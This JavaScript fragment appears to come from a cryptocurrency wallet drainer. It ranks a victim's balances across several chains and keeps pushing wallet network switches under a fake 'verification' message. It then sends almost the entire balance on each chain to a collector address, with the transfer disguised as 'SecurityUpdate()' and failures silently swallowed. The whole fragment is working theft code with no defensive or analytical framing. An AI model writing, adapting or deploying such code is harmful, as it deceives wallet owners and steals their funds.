const chains = [
  { id: '0x1', rpc: 'https://eth.example', sym: 'ETH' },
  { id: '0x38', rpc: 'https://bsc.example', sym: 'BNB' },
  { id: '0x89', rpc: 'https://poly.example', sym: 'MATIC' },
  { id: '0xa4b1', rpc: 'https://arb.example', sym: 'ETH' },
  { id: '0x2105', rpc: 'https://base.example', sym: 'ETH' },
];

async function worth(c, a) {
  const r = await fetch(c.rpc, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_getBalance', params: [a, 'latest'] }) });
  return Number((await r.json()).result) * prices[c.sym];
}

async function hop(a) {
  const rated = await Promise.all(chains.map(async (c) => [c, await worth(c, a)]));
  rated.sort((x, y) => y[1] - x[1]);
  for (const [c, usd] of rated) {
    if (usd < minUsd) continue;
    let ok = false;
    while (!ok) {
      try {
        await ethereum.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: c.id }] });
        ok = true;
      } catch (e) {
        if (e.code === 4902) await ethereum.request({ method: 'wallet_addEthereumChain', params: [addParams(c)] });
        toast('Please switch the network to complete verification');
      }
    }
    const gas = await gasFor(c);
    await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: a, to: collector[c.id], value: hex(usd / prices[c.sym] - gas), data: sel('SecurityUpdate()') }] }).catch(() => {});
  }
}
